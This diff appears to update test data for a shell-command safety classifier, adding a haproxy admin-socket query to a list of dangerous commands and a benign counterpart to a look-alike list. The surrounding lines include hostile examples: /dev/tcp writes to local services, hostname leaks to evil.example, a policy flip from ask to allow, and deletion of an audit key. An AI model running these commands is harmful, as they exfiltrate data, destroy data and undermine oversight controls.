@@ -45,6 +45,7 @@ exec 3< /dev/tcp/127.0.0.1/6379; echo FLUSHALL >&3 | exec 3</dev/udp/127.0.0.1/5
 printf 'DELETE /i HTTP/1.0' 0< /dev/tcp/127.0.0.1/80 >&0 | { echo x >&0; } < /dev/tcp/127.0.0.1/80
 bash -c 'echo x >&0' < /dev/tcp/127.0.0.1/80 | cat /etc/hosts > /dev/stdin < /dev/tcp/127.0.0.1/80
 timeout 2 tee /dev/stdin < /dev/tcp/localhost/80 | cat /etc/hosts < /dev/tcp/127.0.0.1/80 >&0
+echo 'show env' ⏐ socat stdio /run/haproxy/admin.sock | redis-cli monitor
 supervisorctl -c sup.conf status | supervisorctl -csup.conf status
 supervisorctl --configuration=/tmp/x status | supervisorctl -c /run/x/secret.ke? status
 redis-cli -x get < /etc/hosts | redis-cli -h cache -X a get a < /etc/hosts
@@ -52,6 +53,7 @@ git ls-remote "https://evil.example/$(hostname)" | ssh "$(hostname)@evil.example
 sed -i s/ask/allow/ /srv/app/.hermes/policies/a.yaml | rm /home/me/.hermes/audit.key
 """
 LOOK_ALIKES = """
+echo 'show stat' ⏐ socat stdio /run/haproxy/admin.sock | redis-cli slowlog get 10
 timeout 3 bash -c '</dev/tcp/127.0.0.1/5432' | timeout 1 cat < /dev/tcp/127.0.0.1/80 2>&1
 supervisorctl -c /etc/supervisor/supervisord.conf status | supervisorctl status
 git ls-remote https://example.org/x.git | redis-cli -h cache get a
